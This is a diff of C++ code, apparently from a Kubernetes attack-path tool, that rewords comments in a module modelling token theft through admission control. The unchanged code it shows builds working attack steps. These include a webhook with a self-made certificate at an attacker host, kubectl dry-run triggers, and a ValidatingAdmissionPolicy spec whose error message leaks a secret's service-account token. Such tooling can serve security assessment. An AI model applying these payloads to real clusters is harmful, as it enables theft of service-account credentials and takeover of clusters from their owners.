@@ -24,10 +24,10 @@ constexpr CreatePermissions kPolicies{kCreateValidatingPolicy};
 constexpr CreatePermissions kPolicyBindings{kCreateValidatingBinding};
 constexpr std::string_view kFresh = "token-for-me";
 constexpr std::string_view kOurPolicy = "take-over-at-admission";
-// What is prepared: a webhook, a policy with its binding, a policy without.
+// What is prepared: a webhook, a policy with its binding, a policy alone.
 constexpr std::uint32_t kWebhookReady = 0, kPolicyReady = 1, kPolicyAlone = 2;
 
-// Something of one's own that the API server asks about each request, and what it takes.
+// A webhook or policy of the attacker that the API server calls for each request, with its proof.
 struct Eye {
   Proof proof;
   std::string name;
@@ -44,7 +44,7 @@ std::optional<Eye> webhook(const Rights& rights, const AccessModel& world) {
   return std::nullopt;
 }
 
-// A policy does nothing without a binding.
+// A policy has no effect without a binding.
 std::optional<Eye> policy(const Rights& rights, const AccessModel& world) {
   if (world.holds(rbac::Feature::ValidatingAdmissionPolicy) == rbac::Holds::No) return std::nullopt;
   Eye eye{{}, {}, true};
@@ -65,8 +65,8 @@ SeenSecret seen(const Eye& eye, std::string_view secret) {
   return {std::string(secret), eye.name, eye.is_policy, false};
 }
 
-// A webhook sees the token that the control plane writes into a new secret. A policy speaks to who
-// makes the request, who has to ask once more for what is filled.
+// A webhook sees the token that the control plane writes into a new secret. A policy answers only
+// the requester, which needs a second request to see what was filled in.
 bool writes_new(const Evaluation& at, const Eye& eye, Proof& proof, std::string& name) {
   name = kFresh;
   if (!at.rights.need(proof, kCreateSecret, at.scope, "")) return false;
@@ -83,7 +83,7 @@ bool writes_new(const Evaluation& at, const Eye& eye, Proof& proof, std::string&
   return false;
 }
 
-// A secret that is there: one that is updated may be filled for another account first.
+// An existing secret: one that is updated may first be filled for another service account.
 void with_old(const Evaluation& at, const Eye& eye, PermissionId right) {
   const bool update = right == kUpdateSecret;
   auto any = eye.proof;
@@ -114,7 +114,7 @@ void look(const Evaluation& at, const Eye& eye) {
   for (const auto right : {kUpdateSecret, kDeleteSecret}) with_old(at, eye, right);
 }
 
-// Secrets that one writes oneself; who patches or lists them has no need of it.
+// Secrets that the identity writes itself; one that patches or lists them does not need this.
 void edges(const Evaluation& at) {
   const auto held = at.rights.set_for(at.scope);
   if (!held.test(kCreateSecret) && !held.test(kUpdateSecret) && !held.test(kDeleteSecret)) return;
@@ -122,10 +122,10 @@ void edges(const Evaluation& at) {
   if (const auto eye = policy(at.rights, at.world)) look(at, *eye);
 }
 
-// What somebody else has set up, and who writes secrets.
+// A webhook or policy that one member has set up, and the members that write secrets.
 class Watched {
  public:
-  // `after`: what has to be ready before the owner sets it up.
+  // `after`: what must be ready before the owner sets it up.
   Watched(Company& company, const Member& owner, Eye eye, std::optional<NodeKey> after = {})
       : company_(company), owner_(owner), eye_(std::move(eye)), after_(after) {}
 
@@ -180,7 +180,7 @@ class Watched {
   std::optional<NodeKey> after_;
 };
 
-// Who may make one of a kind, under whatever name.
+// The member that may create one of a kind, under any name.
 const Member* maker_of(const Company& company, const CreatePermissions& kind, Eye& eye) {
   for (const auto& member : company.members()) {
     eye = {{}, {}, true};
@@ -189,14 +189,14 @@ const Member* maker_of(const Company& company, const CreatePermissions& kind, Ey
   return nullptr;
 }
 
-// A policy of one, which the binding of another puts into force.
+// A policy of one member, which the binding of another activates.
 void policy_of_two(Company& company) {
   if (company.world().holds(rbac::Feature::ValidatingAdmissionPolicy) == rbac::Holds::No) return;
   Eye policy, binding;
   const auto* maker = maker_of(company, kPolicies, policy);
   const auto* binder = maker_of(company, kPolicyBindings, binding);
   if (maker == nullptr || binder == nullptr || maker == binder) return;
-  // The binding names it, in a step of its own.
+  // The binding names it, in a separate step.
   if (policy.name.empty()) policy.name = kOurPolicy;
   const auto made = requests::prepared(TechniqueId::WatchAdmission, kPolicyAlone);
   company.take(*maker, {TechniqueId::WatchAdmission, made, policy.proof, seen(policy, {}), {}});
@@ -204,7 +204,7 @@ void policy_of_two(Company& company) {
   Watched(company, *binder, std::move(binding), made).look();
 }
 
-// One identity has the API server ask it, another writes the secret.
+// One identity makes the API server call its webhook or policy, another writes the secret.
 void together(Company& company) {
   for (const auto find : {webhook, policy}) {
     for (const auto& member : company.members()) {
@@ -217,7 +217,7 @@ void together(Company& company) {
   policy_of_two(company);
 }
 
-// What it shows stands in the same folder as the lines.
+// What it receives is written to the same folder as the commands run in.
 constexpr std::string_view kOwnCertificate =
     "openssl req -x509 -newkey rsa:2048 -nodes -days 7 -keyout hook.key -out hook.crt -subj "
     "/CN=HOST -addext subjectAltName=IP:HOST\n";
@@ -230,7 +230,7 @@ constexpr std::string_view kPolicySpec =
     R"~(,"spec":{"failurePolicy":"Ignore","matchConstraints":{"resourceRules":[{"operations":["UPDATE","DELETE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"]}]},"matchConditions":[{"name":"mine","expression":"request.dryRun && has(oldObject.data) && 'token' in oldObject.data"}],"validations":[{"expression":"false","messageExpression":"string(oldObject.data.token)"}]})~";
 constexpr std::string_view kVersion = "admissionregistration.k8s.io/v1";
 
-// Its certificate is made by the line before.
+// The command before creates its certificate.
 std::string with_certificate(std::string request) {
   constexpr std::string_view kPlace = "\"BASE64\"";
   request.replace(request.rfind(kPlace), kPlace.size(), R"~("'"$(base64 -w0 hook.crt)"'")~");
@@ -245,7 +245,7 @@ StepText written(const StepView& view, PermissionId create, std::string_view res
                                        {kAdmissionGroup, "v1", resource, {}, name}, json);
 }
 
-// The line or lines that put it into force, which takes a moment.
+// The commands that activate it, which takes a moment.
 StepText set_up(const StepView& view) {
   const auto& how = std::get<SeenSecret>(view.edge.detail);
   const auto name = requests::fresh_name(view, how.eye);
@@ -276,7 +276,7 @@ StepText set_up(const StepView& view) {
   return made;
 }
 
-// The secret of this step, and whether it holds a token of the account already.
+// The secret of this step, and whether it already holds a token of the service account.
 struct Shown {
   std::string name;
   bool is_new = false;
@@ -301,7 +301,7 @@ Shown shown_secret(const StepView& view) {
   return shown;
 }
 
-// A request about the secret that changes nothing, for it to be seen.
+// A request for the secret that changes nothing, to make it visible.
 std::string dry_run(const StepView& view, const std::string& name) {
   if (requests::uses(view.edge, kUpdateSecret)) {
     return fmt::format("{} replace --dry-run=server --validate=false -f - <<< {}", view.kubectl,
@@ -318,7 +318,7 @@ std::string fill(const StepView& view, const Shown& shown) {
                       : requests::retarget_line(view, shown.name);
 }
 
-// The secret is written, and the token kept that comes to be seen.
+// Writes the secret, and stores the token that is shown.
 std::string trigger(const StepView& view) {
   const auto shown = shown_secret(view);
   const bool full = !shown.is_new && (shown.is_theirs || requests::uses(view.edge, kDeleteSecret));
